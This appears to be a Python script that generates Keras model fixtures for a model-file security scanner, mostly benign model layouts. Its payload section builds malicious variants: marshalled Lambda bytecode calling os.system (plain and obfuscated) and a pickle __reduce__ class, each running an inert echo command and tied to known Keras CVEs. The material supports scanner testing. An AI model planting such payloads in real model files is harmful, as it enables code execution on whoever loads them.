#!/usr/bin/python3
"""Generates the Keras fixtures (fixtures/formats/keras/) and the marshal test vectors
(fixtures/formats/keras/marshal-vectors.json, code objects from every CPython interpreter installed).

Run with Debian's interpreter, which has h5py and numpy (Keras and TensorFlow are not installed here):

    /usr/bin/python3 scripts/gen-keras-fixtures.py

The files follow the layouts Keras writes:

- legacy HDF5 (tf.keras 2.x ``model.save('m.h5')`` and Keras 3 ``legacy_h5_format``): root attributes
  ``model_config`` (JSON of ``{"class_name": …, "config": …}``), ``training_config``, ``keras_version``,
  ``backend``, and a ``model_weights`` group with ``layer_names`` / ``weight_names`` attributes;
- legacy weights-only HDF5 (``model.save_weights('w.h5')``);
- ``.keras`` archives (Keras 3 and tf.keras >= 2.13): ``metadata.json``, ``config.json`` and ``model.weights.h5``
  (``layers/<name>/vars/<i>`` datasets).

Malicious variants carry the inert command 'echo bulwark-test'. Lambda bytecode is produced with ``compile`` +
``marshal.dumps`` — compiled, never run. Everything is deterministic (fixed seeds and timestamps).
"""
from __future__ import annotations

import base64
import codecs
import copy
import hashlib
import io
import json
import marshal
import os
import pathlib
import pickle
import subprocess
import sys
import zipfile

import h5py
import numpy as np

HERE = pathlib.Path(__file__).resolve().parent
OUT = HERE.parent / 'fixtures' / 'formats' / 'keras'
VECTORS = OUT / 'marshal-vectors.json'
CMD = 'echo bulwark-test'
ZIP_DATE = (2024, 11, 5, 10, 21, 32)
K2_VERSION = '2.13.1'
K3_VERSION = '3.6.0'

# ---------------------------------------------------------------------------------------------------------------------
# Neutral model description, rendered in Keras 2 (tf.keras) or Keras 3 style.


class Obj:
    """A serialised Keras object (initializer, regularizer, optimizer…)."""

    def __init__(self, module: str, cls: str, config: dict):
        self.module, self.cls, self.config = module, cls, config


def init(cls: str, **cfg) -> Obj:
    if cls in ('GlorotUniform', 'GlorotNormal', 'HeNormal', 'HeUniform', 'RandomNormal', 'RandomUniform', 'Orthogonal'):
        cfg.setdefault('seed', None)
    return Obj('keras.initializers', cls, cfg)


class L:
    """A layer: class, name, config, weights [(name, shape)], inbound [(layer, shape)] for Functional models."""

    def __init__(self, cls, name, config=None, weights=(), inbound=None, module='keras.layers', kwargs=None,
                 build=None, sub=None):
        self.cls, self.name, self.config = cls, name, dict(config or {})
        self.weights, self.inbound, self.module, self.kwargs = list(weights), inbound, module, kwargs or {}
        self.build, self.sub = build, sub


def render(v, style):
    if isinstance(v, Obj):
        cfg = render(v.config, style)
        if style == 'k2':
            return {'class_name': v.cls, 'config': cfg}
        return {'module': v.module, 'class_name': v.cls, 'config': cfg, 'registered_name': None}
    if isinstance(v, dict):
        return {k: render(x, style) for k, x in v.items()}
    if isinstance(v, (list, tuple)):
        return [render(x, style) for x in v]
    return v


def k3_dtype():
    return {'module': 'keras', 'class_name': 'DTypePolicy', 'config': {'name': 'float32'}, 'registered_name': None}


def tensor(shape, hist):
    return {'class_name': '__keras_tensor__', 'config': {'shape': shape, 'dtype': 'float32', 'keras_history': hist}}


def layer_config(layer: L, style: str) -> dict:
    if layer.cls == 'InputLayer':
        cfg = dict(layer.config)
        shape = cfg.pop('shape')
        dtype = cfg.pop('dtype', 'float32')
        if style == 'k2':
            return {'batch_input_shape': [None, *shape], 'dtype': dtype, 'sparse': False, 'ragged': False,
                    'name': layer.name}
        return {'batch_shape': [None, *shape], 'dtype': dtype, 'sparse': False, 'name': layer.name}
    base = {'name': layer.name, 'trainable': True, 'dtype': 'float32' if style == 'k2' else k3_dtype()}
    cfg = {**base, **render(layer.config, style)}
    if layer.sub is not None:
        cfg['layer'] = serialize_layer(layer.sub, style, functional=False)
    return cfg


def serialize_layer(layer: L, style: str, functional: bool) -> dict:
    if isinstance(layer, Model):
        d = layer.serialize(style)
    else:
        cfg = layer_config(layer, style)
        if style == 'k2':
            d = {'class_name': layer.cls, 'config': cfg}
        else:
            d = {'module': layer.module, 'class_name': layer.cls, 'config': cfg, 'registered_name': None}
            if layer.build is not None:
                d['build_config'] = {'input_shape': layer.build}
    if functional:
        d['name'] = layer.name
        ins = layer.inbound or []
        if style == 'k2':
            d['inbound_nodes'] = [[[n, 0, 0, layer.kwargs] for n, _ in ins]] if ins else []
        elif ins:
            tensors = [tensor(shape, [n, 0, 0]) for n, shape in ins]
            args = [tensors[0]] if len(tensors) == 1 else [tensors]
            kwargs = {k: (tensor(v[1], [v[0], 0, 0]) if isinstance(v, tuple) else v) for k, v in layer.kwargs.items()}
            d['inbound_nodes'] = [{'args': args, 'kwargs': kwargs}]
        else:
            d['inbound_nodes'] = []
    return d


class Model:
    def __init__(self, kind, name, layers, inputs=None, outputs=None, inbound=None, build=None):
        self.kind, self.name, self.layers = kind, name, layers
        self.inputs, self.outputs, self.inbound, self.build = inputs, outputs, inbound, build
        self.cls = kind
        self.kwargs = {}

    def config(self, style):
        functional = self.kind == 'Functional'
        cfg = {'name': self.name, 'trainable': True}
        if style == 'k3':
            cfg['dtype'] = k3_dtype()
        cfg['layers'] = [serialize_layer(x, style, functional) for x in self.layers]
        if functional:
            cfg['input_layers'] = [[n, 0, 0] for n in self.inputs]
            cfg['output_layers'] = [[n, 0, 0] for n in self.outputs]
        elif style == 'k3' and self.build is not None:
            cfg['build_input_shape'] = self.build
        return cfg

    def serialize(self, style, top=False):
        if style == 'k2':
            return {'class_name': self.kind, 'config': self.config(style)}
        d = {'module': 'keras', 'class_name': self.kind, 'config': self.config(style),
             'registered_name': 'Functional' if self.kind == 'Functional' else None}
        d['build_config'] = {'input_shape': self.build}
        return d

    def all_weights(self, prefix=()):
        """[(path tuple of layer names, weight name, shape)] in layer order."""
        out = []
        for x in self.layers:
            if isinstance(x, Model):
                out += x.all_weights(prefix + (x.name,))
            else:
                for wname, shape in x.weights:
                    out.append((prefix + (x.name,), wname, shape))
                if x.sub is not None and not x.weights:
                    for wname, shape in x.sub.weights:
                        out.append((prefix + (x.name,), f'{x.sub.name}/{wname}', shape))
        return out


def compile_config(style):
    adam = Obj('keras.optimizers', 'Adam', {
        'name': 'adam', 'learning_rate': 0.001, 'weight_decay': None, 'clipnorm': None, 'global_clipnorm': None,
        'clipvalue': None, 'use_ema': False, 'ema_momentum': 0.99, 'ema_overwrite_frequency': None,
        'loss_scale_factor': None, 'gradient_accumulation_steps': None, 'beta_1': 0.9, 'beta_2': 0.999,
        'epsilon': 1e-07, 'amsgrad': False})
    if style == 'k2':
        return {'loss': 'sparse_categorical_crossentropy',
                'metrics': [[{'class_name': 'MeanMetricWrapper',
                              'config': {'name': 'accuracy', 'dtype': 'float32', 'fn': 'sparse_categorical_accuracy'}}]],
                'weighted_metrics': None, 'loss_weights': None,
                # tf.keras 2.11-2.15 registered its optimizers under the default package: "Custom>Adam".
                'optimizer_config': {'class_name': 'Custom>Adam',
                                     'config': {'name': 'Adam', 'weight_decay': None, 'clipnorm': None,
                                                'global_clipnorm': None, 'clipvalue': None, 'use_ema': False,
                                                'ema_momentum': 0.99, 'ema_overwrite_frequency': None,
                                                'jit_compile': False, 'is_legacy_optimizer': False,
                                                'learning_rate': 0.001, 'beta_1': 0.9, 'beta_2': 0.999,
                                                'epsilon': 1e-07, 'amsgrad': False}}}
    return {'optimizer': render(adam, 'k3'), 'loss': 'sparse_categorical_crossentropy', 'loss_weights': None,
            'metrics': ['accuracy'], 'weighted_metrics': None, 'run_eagerly': False, 'steps_per_execution': 1,
            'jit_compile': False}


# ---- the benign models ----------------------------------------------------------------------------------------------

def dense(name, units, fan_in, activation='linear', inbound=None):
    return L('Dense', name, {'units': units, 'activation': activation, 'use_bias': True,
                             'kernel_initializer': init('GlorotUniform'), 'bias_initializer': init('Zeros'),
                             'kernel_regularizer': None, 'bias_regularizer': None, 'activity_regularizer': None,
                             'kernel_constraint': None, 'bias_constraint': None},
             weights=[('kernel', (fan_in, units)), ('bias', (units,))], inbound=inbound, build=[None, fan_in])


def mlp():
    return Model('Sequential', 'mlp', [
        L('InputLayer', 'input_layer', {'shape': [32]}),
        dense('dense', 16, 32, 'relu'),
        L('Dropout', 'dropout', {'rate': 0.2, 'seed': None, 'noise_shape': None}),
        dense('dense_1', 4, 16, 'softmax'),
    ], build=[None, 32])


def cnn():
    return Model('Functional', 'cnn', [
        L('InputLayer', 'image', {'shape': [8, 8, 1]}),
        L('Conv2D', 'conv2d', {'filters': 4, 'kernel_size': [3, 3], 'strides': [1, 1], 'padding': 'same',
                               'data_format': 'channels_last', 'dilation_rate': [1, 1], 'groups': 1,
                               'activation': 'linear', 'use_bias': True, 'kernel_initializer': init('GlorotUniform'),
                               'bias_initializer': init('Zeros'), 'kernel_regularizer': None,
                               'bias_regularizer': None, 'activity_regularizer': None, 'kernel_constraint': None,
                               'bias_constraint': None},
          weights=[('kernel', (3, 3, 1, 4)), ('bias', (4,))], inbound=[('image', [None, 8, 8, 1])]),
        L('BatchNormalization', 'batch_normalization', {
            'axis': -1, 'momentum': 0.99, 'epsilon': 0.001, 'center': True, 'scale': True,
            'beta_initializer': init('Zeros'), 'gamma_initializer': init('Ones'),
            'moving_mean_initializer': init('Zeros'), 'moving_variance_initializer': init('Ones'),
            'beta_regularizer': None, 'gamma_regularizer': None, 'beta_constraint': None, 'gamma_constraint': None,
            'synchronized': False},
          weights=[('gamma', (4,)), ('beta', (4,)), ('moving_mean', (4,)), ('moving_variance', (4,))],
          inbound=[('conv2d', [None, 8, 8, 4])]),
        L('Activation', 'activation', {'activation': 'relu'}, inbound=[('batch_normalization', [None, 8, 8, 4])]),
        L('MaxPooling2D', 'max_pooling2d', {'pool_size': [2, 2], 'padding': 'valid', 'strides': [2, 2],
                                            'data_format': 'channels_last'},
          inbound=[('activation', [None, 8, 8, 4])]),
        L('Dropout', 'dropout', {'rate': 0.25, 'seed': None, 'noise_shape': None},
          inbound=[('max_pooling2d', [None, 4, 4, 4])]),
        L('Flatten', 'flatten', {'data_format': 'channels_last'}, inbound=[('dropout', [None, 4, 4, 4])]),
        dense('logits', 3, 64, 'softmax', inbound=[('flatten', [None, 64])]),
    ], inputs=['image'], outputs=['logits'], build=[None, 8, 8, 1])


def nested():
    encoder = Model('Sequential', 'encoder', [
        L('InputLayer', 'encoder_input', {'shape': [5, 4]}),
        L('Flatten', 'flatten', {'data_format': 'channels_last'}),
        dense('enc_dense', 8, 20, 'relu'),
        dense('enc_out', 4, 8, 'tanh'),
    ], build=[None, 5, 4])
    encoder.inbound = [('time_distributed', [None, 5, 4])]
    return Model('Functional', 'nested', [
        L('InputLayer', 'sequence', {'shape': [5, 6]}),
        L('TimeDistributed', 'time_distributed', {}, inbound=[('sequence', [None, 5, 6])],
          sub=L('Dense', 'td_dense', {'units': 4, 'activation': 'relu', 'use_bias': True,
                                      'kernel_initializer': init('GlorotUniform'), 'bias_initializer': init('Zeros'),
                                      'kernel_regularizer': None, 'bias_regularizer': None,
                                      'activity_regularizer': None, 'kernel_constraint': None,
                                      'bias_constraint': None},
                weights=[('kernel', (6, 4)), ('bias', (4,))])),
        encoder,
        dense('head', 2, 4, 'softmax', inbound=[('encoder', [None, 4])]),
    ], inputs=['sequence'], outputs=['head'], build=[None, 5, 6])


def lstm_block(name, units, fan_in):
    return L('LSTM', name, {
        'return_sequences': False, 'return_state': False, 'go_backwards': False, 'stateful': False,
        'unroll': False, 'zero_output_for_mask': False, 'units': units, 'activation': 'tanh',
        'recurrent_activation': 'sigmoid', 'use_bias': True, 'kernel_initializer': init('GlorotUniform'),
        'recurrent_initializer': init('Orthogonal', gain=1.0), 'bias_initializer': init('Zeros'),
        'unit_forget_bias': True, 'kernel_regularizer': None, 'recurrent_regularizer': None, 'bias_regularizer': None,
        'activity_regularizer': None, 'kernel_constraint': None, 'recurrent_constraint': None,
        'bias_constraint': None, 'dropout': 0.0, 'recurrent_dropout': 0.0, 'seed': None},
        weights=[('kernel', (fan_in, units * 4)), ('recurrent_kernel', (units, units * 4)), ('bias', (units * 4,))])


def text():
    bi = L('Bidirectional', 'bidirectional', {'merge_mode': 'concat'},
           inbound=[('embedding', [None, 10, 8])], sub=lstm_block('forward_lstm', 6, 8))
    bi.weights = [('forward_lstm/kernel', (8, 24)), ('forward_lstm/recurrent_kernel', (6, 24)),
                  ('forward_lstm/bias', (24,)), ('backward_lstm/kernel', (8, 24)),
                  ('backward_lstm/recurrent_kernel', (6, 24)), ('backward_lstm/bias', (24,))]
    m = Model('Functional', 'text_classifier', [
        L('InputLayer', 'tokens', {'shape': [10], 'dtype': 'int32'}),
        L('Embedding', 'embedding', {'input_dim': 50, 'output_dim': 8, 'embeddings_initializer': init('RandomUniform', minval=-0.05, maxval=0.05),
                                     'embeddings_regularizer': None, 'activity_regularizer': None,
                                     'embeddings_constraint': None, 'mask_zero': True},
          weights=[('embeddings', (50, 8))], inbound=[('tokens', [None, 10])]),
        bi,
        dense('score', 1, 12, 'sigmoid', inbound=[('bidirectional', [None, 12])]),
    ], inputs=['tokens'], outputs=['score'], build=[None, 10])
    return m


def transformer():
    def mha():
        return L('MultiHeadAttention', 'multi_head_attention', {
            'num_heads': 2, 'key_dim': 4, 'value_dim': 4, 'dropout': 0.0, 'use_bias': True, 'output_shape': None,
            'attention_axes': [1], 'kernel_initializer': init('GlorotUniform'), 'bias_initializer': init('Zeros'),
            'kernel_regularizer': None, 'bias_regularizer': None, 'activity_regularizer': None,
            'kernel_constraint': None, 'bias_constraint': None, 'query_shape': [None, 6, 8],
            'key_shape': [None, 6, 8], 'value_shape': [None, 6, 8]},
            weights=[('query/kernel', (8, 2, 4)), ('query/bias', (2, 4)), ('key/kernel', (8, 2, 4)),
                     ('key/bias', (2, 4)), ('value/kernel', (8, 2, 4)), ('value/bias', (2, 4)),
                     ('attention_output/kernel', (2, 4, 8)), ('attention_output/bias', (8,))],
            inbound=[('x', [None, 6, 8])], kwargs={'value': ('x', [None, 6, 8])})

    def ln(name, src):
        return L('LayerNormalization', name, {'axis': [-1], 'epsilon': 1e-06, 'center': True, 'scale': True,
                                              'rms_scaling': False, 'beta_initializer': init('Zeros'),
                                              'gamma_initializer': init('Ones'), 'beta_regularizer': None,
                                              'gamma_regularizer': None, 'beta_constraint': None,
                                              'gamma_constraint': None},
                 weights=[('gamma', (8,)), ('beta', (8,))], inbound=[(src, [None, 6, 8])])

    return Model('Functional', 'transformer_block', [
        L('InputLayer', 'x', {'shape': [6, 8]}),
        mha(),
        L('Add', 'add', {}, inbound=[('x', [None, 6, 8]), ('multi_head_attention', [None, 6, 8])]),
        ln('layer_normalization', 'add'),
        dense('ffn_1', 16, 8, 'relu', inbound=[('layer_normalization', [None, 6, 8])]),
        dense('ffn_2', 8, 16, inbound=[('ffn_1', [None, 6, 16])]),
        L('Add', 'add_1', {}, inbound=[('layer_normalization', [None, 6, 8]), ('ffn_2', [None, 6, 8])]),
        ln('layer_normalization_1', 'add_1'),
        L('GlobalAveragePooling1D', 'pool', {'data_format': 'channels_last', 'keepdims': False},
          inbound=[('layer_normalization_1', [None, 6, 8])]),
        dense('classifier', 2, 8, 'softmax', inbound=[('pool', [None, 8])]),
    ], inputs=['x'], outputs=['classifier'], build=[None, 6, 8])


def preprocessing():
    return Model('Sequential', 'preprocessing', [
        L('InputLayer', 'features', {'shape': [4]}),
        L('Rescaling', 'rescaling', {'scale': 0.00392156862745098, 'offset': 0.0}),
        L('Normalization', 'normalization', {'axis': [-1], 'invert': False, 'mean': None, 'variance': None},
          weights=[('mean', (4,)), ('variance', (4,)), ('count', ())]),
        dense('regressor', 1, 4),
    ], build=[None, 4])


def lookup():
    return Model('Functional', 'lookup', [
        L('InputLayer', 'words', {'shape': [3], 'dtype': 'string'}),
        L('StringLookup', 'string_lookup', {
            'invert': False, 'max_tokens': None, 'num_oov_indices': 1, 'oov_token': '[UNK]', 'mask_token': None,
            'output_mode': 'int', 'sparse': False, 'pad_to_max_tokens': False, 'vocabulary_dtype': 'string',
            'idf_weights': None, 'vocabulary': ['the', 'cat', 'sat', 'on', 'mat', 'https', 'etc'],
            'vocabulary_size': 8, 'encoding': 'utf-8'}, inbound=[('words', [None, 3])]),
        L('Embedding', 'embedding', {'input_dim': 8, 'output_dim': 2,
                                     'embeddings_initializer': init('RandomUniform', minval=-0.05, maxval=0.05),
                                     'embeddings_regularizer': None, 'activity_regularizer': None,
                                     'embeddings_constraint': None, 'mask_zero': False},
          weights=[('embeddings', (8, 2))], inbound=[('string_lookup', [None, 3])]),
        L('Flatten', 'flatten', {'data_format': 'channels_last'}, inbound=[('embedding', [None, 3, 2])]),
        dense('out', 1, 6, 'sigmoid', inbound=[('flatten', [None, 6])]),
    ], inputs=['words'], outputs=['out'], build=[None, 3])


BENIGN_MODELS = {'mlp': mlp, 'cnn': cnn, 'nested': nested, 'text': text, 'transformer': transformer,
                 'preprocessing': preprocessing, 'lookup': lookup}


def fix_bidirectional(cfg_doc, style):
    """Bidirectional carries its own backward layer config; render it in the right style."""
    def walk(v):
        if isinstance(v, dict):
            if v.get('class_name') == 'Bidirectional':
                c = v['config']
                c['backward_layer'] = serialize_layer(lstm_block('backward_lstm', 6, 8), style, functional=False)
                c['layer'] = serialize_layer(lstm_block('forward_lstm', 6, 8), style, functional=False)
            for x in v.values():
                walk(x)
        elif isinstance(v, list):
            for x in v:
                walk(x)
    walk(cfg_doc)
    return cfg_doc


def model_doc(model: Model, style: str) -> dict:
    return fix_bidirectional(model.serialize(style, top=True), style)


# ---- writers ----------------------------------------------------------------------------------------------------------

def rng_for(name: str) -> np.random.RandomState:
    return np.random.RandomState(int(hashlib.sha256(name.encode()).hexdigest()[:8], 16))


def ds(group, name, shape, rng):
    data = (rng.standard_normal(shape) * 0.1).astype('float32') if shape else np.float32(0.5)
    group.create_dataset(name, data=data, track_times=False)


def write_legacy_weights(g, model: Model, rng, version):
    """tf.keras legacy layout: <group>/<layer>/<layer>/<weight>:0 with layer_names/weight_names attributes."""
    by_layer: dict[str, list] = {}
    order = []
    for path, wname, shape in model.all_weights():
        top = path[0]
        if top not in by_layer:
            by_layer[top] = []
            order.append(top)
        by_layer[top].append(('/'.join(path[1:] + (wname,)) if len(path) > 1 else wname, shape))
    names = [x.name for x in model.layers]
    g.attrs['backend'] = 'tensorflow'
    g.attrs['keras_version'] = version
    g.attrs['layer_names'] = np.array([n.encode() for n in names])
    for n in names:
        lg = g.create_group(n, track_order=False)
        weights = by_layer.get(n, [])
        lg.attrs['weight_names'] = np.array([f'{n}/{w}:0'.encode() for w, _ in weights], dtype='S')
        for w, shape in weights:
            ds(lg, f'{n}/{w}:0', shape, rng)


def write_legacy_h5(path: pathlib.Path, model_config: dict, model: Model | None, version: str,
                    training_config: dict | None = None, weights=True, userblock: bytes | None = None,
                    extra=None):
    path.parent.mkdir(parents=True, exist_ok=True)
    kw = {'userblock_size': 512} if userblock is not None else {}
    with h5py.File(path, 'w', libver='earliest', track_order=False, **kw) as f:
        f.attrs['backend'] = 'tensorflow'
        f.attrs['keras_version'] = version
        f.attrs['model_config'] = json.dumps(model_config).encode('utf8')
        if training_config is not None:
            f.attrs['training_config'] = json.dumps(training_config).encode('utf8')
        g = f.create_group('model_weights')
        if weights and model is not None:
            write_legacy_weights(g, model, rng_for(path.name), version)
        else:
            g.attrs['backend'] = 'tensorflow'
            g.attrs['keras_version'] = version
            g.attrs['layer_names'] = np.array([], dtype='S1')
        if extra:
            extra(f)
    if userblock is not None:
        data = bytearray(path.read_bytes())
        data[:len(userblock)] = userblock
        path.write_bytes(bytes(data))


def keras3_weights_bytes(model: Model | None, name: str) -> bytes:
    buf = io.BytesIO()
    rng = rng_for(name)
    with h5py.File(buf, 'w', libver='earliest', track_order=False) as f:
        layers = f.create_group('layers')
        if model is not None:
            def add(m: Model, group):
                for x in m.layers:
                    lg = group.create_group(x.name)
                    if isinstance(x, Model):
                        add(x, lg.create_group('layers'))
                        lg.create_group('vars')
                        continue
                    v = lg.create_group('vars')
                    ws = list(x.weights) or (list(x.sub.weights) if x.sub is not None else [])
                    for i, (_, shape) in enumerate(ws):
                        ds(v, str(i), shape, rng)
            add(model, layers)
        opt = f.create_group('optimizer')
        ov = opt.create_group('vars')
        ds(ov, '0', (), rng)
        f.create_group('vars')
    return buf.getvalue()


def zip_bytes(members: list[tuple[str, bytes, int]]) -> bytes:
    buf = io.BytesIO()
    with zipfile.ZipFile(buf, 'w') as z:
        for name, data, method in members:
            info = zipfile.ZipInfo(name, date_time=ZIP_DATE)
            info.compress_type = method
            info.external_attr = 0o644 << 16
            z.writestr(info, data)
    return buf.getvalue()


def write_keras(path: pathlib.Path, config: dict, model: Model | None, version=K3_VERSION):
    path.parent.mkdir(parents=True, exist_ok=True)
    meta = {'keras_version': version, 'date_saved': '2024-11-05@10:21:32'}
    path.write_bytes(zip_bytes([
        ('metadata.json', json.dumps(meta).encode(), zipfile.ZIP_DEFLATED),
        ('config.json', json.dumps(config).encode(), zipfile.ZIP_DEFLATED),
        ('model.weights.h5', keras3_weights_bytes(model, path.name), zipfile.ZIP_STORED),
    ]))


# ---- code payloads ----------------------------------------------------------------------------------------------------

def code_bytes(src: str) -> bytes:
    """marshal.dumps of the first lambda in `src` — compiled, never called."""
    c = compile(src, '<string>', 'eval')
    lam = next(x for x in c.co_consts if hasattr(x, 'co_code'))
    return marshal.dumps(lam)


def func_dump(src: str) -> list:
    """Keras 2 func_dump: (base64 with newlines, defaults, closure)."""
    return [codecs.encode(code_bytes(src), 'base64').decode('ascii'), None, None]


def k3_lambda_fn(src: str) -> dict:
    code = base64.b64encode(code_bytes(src)).decode('ascii')
    return {'class_name': '__lambda__', 'config': {'code': code, 'defaults': None, 'closure': None}}


EVIL = f"lambda x: __import__('os').system('{CMD}')"
OBFUSCATED = f"lambda x: getattr(__import__('o' + 's'), 'sys' + 'tem')('{CMD}') or x"
BENIGN_LAMBDA = 'lambda x: x * 2'


def k2_lambda(name, function, inbound=None, output_shape=None, output_shape_type='raw', arguments=None):
    return {'class_name': 'Lambda', 'config': {
        'name': name, 'trainable': True, 'dtype': 'float32', 'function': function, 'function_type': 'lambda',
        'module': '__main__', 'output_shape': output_shape, 'output_shape_type': output_shape_type,
        'output_shape_module': None, 'arguments': arguments or {}},
        **({'name': name, 'inbound_nodes': inbound} if inbound is not None else {})}


def k3_lambda(name, function, inbound=None, arguments=None):
    d = {'module': 'keras.layers', 'class_name': 'Lambda', 'config': {
        'name': name, 'trainable': True, 'dtype': k3_dtype(), 'function': function,
        'arguments': arguments or {}}, 'registered_name': None, 'build_config': {'input_shape': [None, 32]}}
    if inbound is not None:
        d['name'] = name
        d['inbound_nodes'] = inbound
    return d


def k3_fn(module, name, registered=None):
    return {'module': module, 'class_name': 'function', 'config': name, 'registered_name': registered or name}


def k3_inbound(src='input_layer', shape=(None, 32)):
    return [{'args': [tensor(list(shape), [src, 0, 0])], 'kwargs': {}}]


def k3_functional(name, layers, outputs):
    return {'module': 'keras', 'class_name': 'Functional', 'config': {
        'name': name, 'trainable': True, 'layers': [
            {'module': 'keras.layers', 'class_name': 'InputLayer',
             'config': {'batch_shape': [None, 32], 'dtype': 'float32', 'sparse': False, 'name': 'input_layer'},
             'registered_name': None, 'name': 'input_layer', 'inbound_nodes': []},
            *layers],
        'input_layers': [['input_layer', 0, 0]], 'output_layers': [[o, 0, 0] for o in outputs]},
        'registered_name': 'Functional', 'build_config': {'input_shape': None},
        'compile_config': compile_config('k3')}


def k2_sequential(name, layers):
    return {'class_name': 'Sequential', 'config': {'name': name, 'layers': [
        {'class_name': 'InputLayer', 'config': {'batch_input_shape': [None, 32], 'dtype': 'float32',
                                                'sparse': False, 'ragged': False, 'name': 'input_1'}},
        *layers]}}


def k3_sequential(name, layers):
    return {'module': 'keras', 'class_name': 'Sequential', 'config': {
        'name': name, 'trainable': True, 'dtype': k3_dtype(), 'layers': [
            {'module': 'keras.layers', 'class_name': 'InputLayer',
             'config': {'batch_shape': [None, 32], 'dtype': 'float32', 'sparse': False, 'name': 'input_layer'},
             'registered_name': None},
            *layers], 'build_input_shape': [None, 32]},
        'registered_name': None, 'build_config': {'input_shape': [None, 32]}, 'compile_config': compile_config('k3')}


def k2_dense(name='dense', units=4):
    return {'class_name': 'Dense', 'config': layer_config(dense(name, units, 32), 'k2')}


def k3_dense(name='dense', units=4, inbound=None):
    d = serialize_layer(dense(name, units, 32), 'k3', functional=False)
    if inbound is not None:
        d['name'] = name
        d['inbound_nodes'] = inbound
    return d


def torch_zip(obj) -> bytes:
    """A torch.save-style archive (archive/data.pkl + archive/version) holding pickle.dumps(obj)."""
    return zip_bytes([('archive/data.pkl', pickle.dumps(obj, protocol=2), zipfile.ZIP_STORED),
                      ('archive/version', b'3\n', zipfile.ZIP_STORED)])


class Evil:
    def __reduce__(self):
        return (os.system, (CMD,))


# ---- the fixture set --------------------------------------------------------------------------------------------------

entries: list[dict] = []


def add(rel, label, cls, verdict, rules=(), formats=(), note=''):
    entries.append({'path': rel, 'label': label, 'class': cls,
                    'expect': {'verdict': verdict, 'rules': list(rules), 'formats': list(formats)}, 'note': note})


H5_FORMATS = ['hdf5', 'keras-h5']
KERAS_FORMATS = ['keras', 'keras-config', 'hdf5', 'keras-weights-h5']


def benign():
    for key, make in BENIGN_MODELS.items():
        m = make()
        write_legacy_h5(OUT / f'benign/keras2/{key}.h5', model_doc(m, 'k2'), m, K2_VERSION,
                        training_config=compile_config('k2'))
        add(f'benign/keras2/{key}.h5', 'benign', f'keras2-h5-{key}', 'clean', formats=H5_FORMATS,
            note='tf.keras 2.x model.save("m.h5") layout')
        doc = model_doc(m, 'k3')
        doc['compile_config'] = compile_config('k3')
        write_keras(OUT / f'benign/keras3/{key}.keras', doc, m)
        add(f'benign/keras3/{key}.keras', 'benign', f'keras3-keras-{key}', 'clean', formats=KERAS_FORMATS,
            note='Keras 3 model.save("m.keras") layout')
    # Keras 3 legacy HDF5 export (keras-3-style nested config inside model_config).
    m = transformer()
    write_legacy_h5(OUT / 'benign/keras3/transformer_legacy.h5', model_doc(m, 'k3'), m, K3_VERSION)
    add('benign/keras3/transformer_legacy.h5', 'benign', 'keras3-legacy-h5', 'clean', formats=H5_FORMATS,
        note='Keras 3 model.save("m.h5") (legacy_h5_format) layout')
    # tf.keras 2.13+ native .keras format.
    m = mlp()
    doc = model_doc(m, 'k3')
    write_keras(OUT / 'benign/keras2/mlp_tf213.keras', doc, m, version=K2_VERSION)
    add('benign/keras2/mlp_tf213.keras', 'benign', 'tf-keras-2.13-keras', 'clean', formats=KERAS_FORMATS)
    # Weights-only files.
    m = cnn()
    p = OUT / 'benign/keras2/cnn.weights.h5'
    with h5py.File(p, 'w', libver='earliest', track_order=False) as f:
        write_legacy_weights(f, m, rng_for(p.name), K2_VERSION)
    add('benign/keras2/cnn.weights.h5', 'benign', 'keras2-weights-only-h5', 'clean',
        formats=['hdf5', 'keras-weights-h5'], note='tf.keras model.save_weights("w.h5")')
    (OUT / 'benign/keras3/text.weights.h5').write_bytes(keras3_weights_bytes(text(), 'text.weights.h5'))
    add('benign/keras3/text.weights.h5', 'benign', 'keras3-weights-only-h5', 'clean',
        formats=['hdf5', 'keras-weights-h5'], note='Keras 3 model.save_weights("m.weights.h5")')
    # A plain HDF5 data file (not Keras).
    p = OUT / 'benign/hdf5/dataset.h5'
    p.parent.mkdir(parents=True, exist_ok=True)
    rng = rng_for(p.name)
    with h5py.File(p, 'w', libver='earliest', track_order=False) as f:
        f.attrs['description'] = 'sensor readings'
        g = f.create_group('data')
        g.create_dataset('x', data=rng.standard_normal((20, 3)).astype('float32'), track_times=False)
        g.create_dataset('labels', data=np.arange(20, dtype='int64'), track_times=False)
        f['data'].attrs['units'] = 'volt'
        f['latest'] = h5py.SoftLink('/data/x')
    add('benign/hdf5/dataset.h5', 'benign', 'hdf5-data', 'clean', formats=['hdf5'], note='non-Keras HDF5')
    # KerasHub-style preset config.json (first-party ecosystem package).
    p = OUT / 'benign/keras3/kerashub_config.json'
    p.write_text(json.dumps({
        'module': 'keras_hub.src.models.bert.bert_backbone', 'class_name': 'BertBackbone',
        'config': {'name': 'bert_backbone', 'trainable': True, 'vocabulary_size': 30522, 'num_layers': 2,
                   'num_heads': 2, 'hidden_dim': 128, 'intermediate_dim': 512, 'dropout': 0.1,
                   'max_sequence_length': 512, 'num_segments': 2},
        'registered_name': 'keras_hub>BertBackbone'}, indent=4))
    add('benign/keras3/kerashub_config.json', 'benign', 'kerashub-config', 'clean', formats=['keras-config'])


def malicious():
    d = OUT / 'malicious'
    # --- Lambda bytecode (CVE-2024-3660, CVE-2025-9905) ---
    cfg = k2_sequential('lambda_model', [k2_lambda('lambda', func_dump(EVIL)), k2_dense()])
    write_legacy_h5(d / 'lambda_os_system.h5', cfg, None, K2_VERSION)
    add('malicious/lambda_os_system.h5', 'malicious', 'lambda-bytecode', 'malicious', ['BW-KERAS-001'], H5_FORMATS,
        'tf.keras Lambda with marshalled os.system bytecode; HDF5 ignores safe_mode (CVE-2025-9905)')
    cfg = k3_sequential('lambda_model', [k3_lambda('lambda', k3_lambda_fn(EVIL)), k3_dense()])
    write_keras(d / 'lambda_os_system.keras', cfg, None)
    add('malicious/lambda_os_system.keras', 'malicious', 'lambda-bytecode', 'malicious', ['BW-KERAS-001'],
        ['keras', 'keras-config'], 'Keras 3 __lambda__ function with os.system bytecode')
    write_legacy_h5(d / 'lambda_os_system_keras3.h5', cfg, None, K3_VERSION)
    add('malicious/lambda_os_system_keras3.h5', 'malicious', 'lambda-bytecode', 'malicious', ['BW-KERAS-001'],
        H5_FORMATS, 'Keras 3 style config in a legacy HDF5 file')
    cfg = k2_sequential('lambda_model', [k2_lambda('double', func_dump(BENIGN_LAMBDA)), k2_dense()])
    write_legacy_h5(d / 'lambda_benign_code.h5', cfg, None, K2_VERSION)
